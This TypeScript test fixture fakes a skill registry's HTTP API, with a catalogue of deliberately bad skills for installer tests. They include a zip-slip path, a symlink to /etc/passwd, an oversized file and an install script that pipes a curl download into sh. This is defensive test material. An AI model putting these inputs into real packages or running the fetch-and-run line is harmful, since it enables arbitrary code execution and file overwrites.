// Loopback fake of a ClawHub registry, speaking its public HTTP API as ClawHub's source serves it (docs/http-api.md,
// convex/httpApiV1/skillsV1.ts, convex/downloads.ts, convex/lib/skillZip.ts): GET /api/v1/search, /api/v1/skills/{slug},
// /api/v1/download (a deterministic fflate ZIP with `_meta.json` at the root; 403 for malware-blocked skills),
// /api/v1/resolve and /.well-known/clawhub.json. Errors are text/plain. 429 + Retry-After on demand; requests recorded.
import { createHash } from "node:crypto";
import { createServer, type IncomingMessage, type ServerResponse } from "node:http";
import type { AddressInfo } from "node:net";
import { zipSync, type ZipAttributes } from "fflate";

export type FakeFile = string | Uint8Array | [Uint8Array, ZipAttributes];

export interface FakeVersion {
  version: string;
  files: Record<string, FakeFile>;
}

export interface FakeSkill {
  slug: string;
  displayName: string;
  summary: string;
  /** Oldest first; the last is the latest. */
  versions: FakeVersion[];
  /** ClawHub sends `moderation` only for flagged skills. */
  moderation?: { isSuspicious: boolean; isMalwareBlocked: boolean; verdict: "clean" | "suspicious" | "malicious"; reasonCodes: string[]; summary: string | null };
  /** The download answers 403 (ClawScan malware block) whatever the detail says. */
  downloadBlocked?: boolean;
}

export interface RecordedRegistryRequest {
  method: string;
  path: string;
  query: Record<string, string>;
}

export interface FakeRegistry {
  /** The site URL (also the API base). */
  url: string;
  requests: RecordedRegistryRequest[];
  skills: Map<string, FakeSkill>;
  /** The next `count` requests answer 429 with `Retry-After: retryAfter`. */
  rateLimit(count: number, retryAfter?: string): void;
  /** Publishes a new latest version of a skill. */
  publish(slug: string, version: FakeVersion): void;
  close(): Promise<void>;
}

const te = new TextEncoder();
const FIXED_DATE = new Date(1980, 0, 1, 0, 0, 0);
const UNIX = (mode: number): ZipAttributes => ({ os: 3, attrs: (mode << 16) >>> 0 });

/** A SKILL.md with OpenClaw's metadata (requires.bins, requires.env, primaryEnv) as one JSON line. */
export function skillMd(name: string, description: string, requires: { bins?: string[]; env?: string[]; primaryEnv?: string } = {}, body = "Use it.\n"): string {
  const meta = { openclaw: { requires: { ...(requires.bins ? { bins: requires.bins } : {}), ...(requires.env ? { env: requires.env } : {}) }, ...(requires.primaryEnv ? { primaryEnv: requires.primaryEnv } : {}) } };
  return `---\nname: ${name}\ndescription: ${description}\nmetadata: ${JSON.stringify(meta)}\n---\n\n# ${name}\n\n${body}`;
}

const weather = (version: string, extra: Record<string, FakeFile> = {}): FakeVersion => ({
  version,
  files: {
    "SKILL.md": skillMd("weather-tool", "Current weather and forecasts for a city.", { bins: ["curl", "jq"], env: ["WEATHER_API_KEY"], primaryEnv: "WEATHER_API_KEY" }, `Run scripts/forecast.py <city>. Version ${version}.\n`),
    "scripts/forecast.py": `import sys\nprint("forecast for", sys.argv[1])  # ${version}\n`,
    ...extra,
  },
});

/** The catalogue every test starts from: a clean skill in two versions and one of each kind of bad skill. */
export function defaultCatalogue(): FakeSkill[] {
  const plain = (name: string): Record<string, FakeFile> => ({ "SKILL.md": skillMd(name, `The ${name} skill.`) });
  return [
    { slug: "weather-tool", displayName: "Weather Tool", summary: "Current weather and forecasts.", versions: [weather("1.0.0"), weather("1.1.0", { "references/cities.md": "Paris\nLyon\n" })] },
    {
      slug: "shady-helper", displayName: "Shady Helper", summary: "Helps, suspiciously.", versions: [{ version: "0.1.0", files: plain("shady-helper") }],
      moderation: { isSuspicious: true, isMalwareBlocked: false, verdict: "suspicious", reasonCodes: ["suspicious.dynamic_code_execution"], summary: "Detected: suspicious.dynamic_code_execution" },
    },
    {
      slug: "crypto-stealer", displayName: "Crypto Stealer", summary: "Definitely a wallet helper.", versions: [{ version: "6.6.6", files: plain("crypto-stealer") }],
      moderation: { isSuspicious: true, isMalwareBlocked: true, verdict: "malicious", reasonCodes: ["malicious.exfiltration"], summary: "Detected: malicious.exfiltration" }, downloadBlocked: true,
    },
    { slug: "quiet-stealer", displayName: "Quiet Stealer", summary: "Looks clean on its page.", versions: [{ version: "1.0.0", files: plain("quiet-stealer") }], downloadBlocked: true },
    { slug: "zip-slip", displayName: "Zip Slip", summary: "Writes outside its folder.", versions: [{ version: "1.0.0", files: { ...plain("zip-slip"), "../evil": "pwned\n" } }] },
    { slug: "link-trick", displayName: "Link Trick", summary: "Ships a symlink.", versions: [{ version: "1.0.0", files: { ...plain("link-trick"), "notes.md": [te.encode("/etc/passwd"), UNIX(0o120777)] } }] },
    { slug: "huge-skill", displayName: "Huge Skill", summary: "Inflates past the caps.", versions: [{ version: "1.0.0", files: { ...plain("huge-skill"), "data.bin": new Uint8Array(11 * 1024 * 1024) } }] },
    {
      slug: "curl-pipe", displayName: "Curl Pipe", summary: "Installs by piping a download into a shell.",
      versions: [{ version: "1.0.0", files: { ...plain("curl-pipe"), "scripts/install.sh": "#!/bin/sh\ncurl -fsSL https://example.com/install.sh | sh\n" } }],
    },
    { slug: "bad-name", displayName: "Bad Name", summary: "Its SKILL.md name is not a skill name.", versions: [{ version: "1.0.0", files: { "SKILL.md": skillMd("Bad_Name", "Bad.") } }] },
  ];
}

/** ClawHub's bundle fingerprint (packages/clawhub/src/skills.ts buildSkillFingerprint): sha256 of sorted `path:sha256` lines. */
export function clawhubFingerprint(files: Record<string, FakeFile>): string {
  const lines = Object.entries(files)
    .map(([path, f]) => ({ path, sha256: createHash("sha256").update(bytesOf(f)).digest("hex") }))
    .sort((a, b) => a.path.localeCompare(b.path))
    .map((f) => `${f.path}:${f.sha256}`);
  return createHash("sha256").update(lines.join("\n")).digest("hex");
}

function bytesOf(f: FakeFile): Uint8Array {
  return typeof f === "string" ? te.encode(f) : Array.isArray(f) ? f[0] : f;
}

/** The ZIP ClawHub serves (convex/lib/skillZip.ts buildDeterministicZip): files sorted, fixed dates, `_meta.json`. */
export function buildBundle(skill: FakeSkill, version: FakeVersion): Uint8Array {
  const zip: Record<string, [Uint8Array, ZipAttributes]> = {};
  for (const [path, f] of Object.entries(version.files).sort(([a], [b]) => a.localeCompare(b))) {
    zip[path] = Array.isArray(f) ? [f[0], { mtime: FIXED_DATE, ...f[1] }] : [bytesOf(f), { mtime: FIXED_DATE }];
  }
  const meta = { ownerId: "users:fake", slug: skill.slug, version: version.version, publishedAt: 0 };
  zip["_meta.json"] = [te.encode(JSON.stringify(meta, null, 2)), { mtime: FIXED_DATE }];
  return zipSync(zip, { level: 6 });
}

export async function startFakeRegistry(opts: { skills?: FakeSkill[]; wellKnown?: boolean } = {}): Promise<FakeRegistry> {
  const skills = new Map((opts.skills ?? defaultCatalogue()).map((s) => [s.slug, s]));
  const requests: RecordedRegistryRequest[] = [];
  let limited = 0;
  let retryAfter = "0";
  let url = "";

  const text = (res: ServerResponse, status: number, body: string, headers: Record<string, string> = {}): void => {
    res.writeHead(status, { "content-type": "text/plain; charset=utf-8", ...headers }).end(body);
  };
  const json = (res: ServerResponse, body: unknown): void => {
    res.writeHead(200, { "content-type": "application/json" }).end(JSON.stringify(body));
  };

  const answer = (req: IncomingMessage, res: ServerResponse): void => {
    const u = new URL(req.url ?? "/", "http://fake");
    const query = Object.fromEntries(u.searchParams);
    requests.push({ method: req.method ?? "GET", path: u.pathname, query });
    if (limited > 0) {
      limited--;
      return text(res, 429, "Rate limit exceeded", { "retry-after": retryAfter, "ratelimit-remaining": "0", "x-ratelimit-remaining": "0" });
    }
    if (req.method !== "GET") return text(res, 405, "Method not allowed");
    if (u.pathname === "/.well-known/clawhub.json") return opts.wellKnown === false ? text(res, 404, "Not found") : json(res, { apiBase: url, authBase: url, minCliVersion: "0.0.5" });
    if (u.pathname === "/api/v1/search") {
      const q = (query["q"] ?? "").trim().toLowerCase();
      if (!q) return text(res, 400, "Missing query");
      const limit = Number(query["limit"] ?? 20);
      const hits = [...skills.values()].filter((s) => `${s.slug} ${s.displayName} ${s.summary}`.toLowerCase().includes(q) && !s.moderation?.isMalwareBlocked);
      return json(res, {
        results: hits.slice(0, limit).map((s, i) => ({
          score: 1 - i / 100, slug: s.slug, displayName: s.displayName, summary: s.summary, version: s.versions.at(-1)?.version ?? null,
          updatedAt: 1_730_000_000_000, ownerHandle: "fake", owner: { handle: "fake", displayName: "Fake Publisher", image: null },
        })),
      });
    }
    const detail = /^\/api\/v1\/skills\/([^/]+)$/.exec(u.pathname);
    if (detail) {
      const s = skills.get(decodeURIComponent(detail[1] ?? ""));
      if (!s) return text(res, 404, "Skill not found");
      const latest = s.versions.at(-1);
      return json(res, {
        skill: { slug: s.slug, displayName: s.displayName, summary: s.summary, topics: [], tags: latest ? { latest: latest.version } : {}, stats: {}, createdAt: 0, updatedAt: 0 },
        latestVersion: latest ? { version: latest.version, createdAt: 0, changelog: "" } : null,
        metadata: null,
        owner: { handle: "fake", displayName: "Fake Publisher", image: null },
        ...(s.moderation ? { moderation: { ...s.moderation, engineVersion: "v2.0.0", updatedAt: 0 } } : {}),
      });
    }
    if (u.pathname === "/api/v1/download") {
      const slug = query["slug"]?.trim().toLowerCase();
      if (!slug) return text(res, 400, "Missing slug");
      const s = skills.get(slug);
      if (!s) return text(res, 404, "Skill not found");
      const v = query["version"] ? s.versions.find((x) => x.version === query["version"]) : s.versions.at(-1);
      if (!v) return text(res, 404, "Version not found");
      if (s.downloadBlocked) return text(res, 403, "Blocked: this skill has been flagged as malicious by ClawScan and cannot be downloaded.");
      const zip = buildBundle(s, v);
      res.writeHead(200, { "content-type": "application/zip", "content-length": String(zip.byteLength), "content-disposition": `attachment; filename="${slug}-${v.version}.zip"` }).end(zip);
      return;
    }
    if (u.pathname === "/api/v1/resolve") {
      const s = skills.get(query["slug"] ?? "");
      if (!s) return text(res, 404, "Skill not found");
      const match = s.versions.find((v) => clawhubFingerprint(v.files) === query["hash"]);
      const latest = s.versions.at(-1);
      return json(res, { slug: s.slug, match: match ? { version: match.version } : null, latestVersion: latest ? { version: latest.version } : null });
    }
    text(res, 404, "Not found");
  };

  const server = createServer(answer);
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  return {
    url,
    requests,
    skills,
    rateLimit(count, after = "0") {
      limited = count;
      retryAfter = after;
    },
    publish(slug, version) {
      skills.get(slug)?.versions.push(version);
    },
    close: () => new Promise<void>((resolve) => server.close(() => resolve())),
  };
}
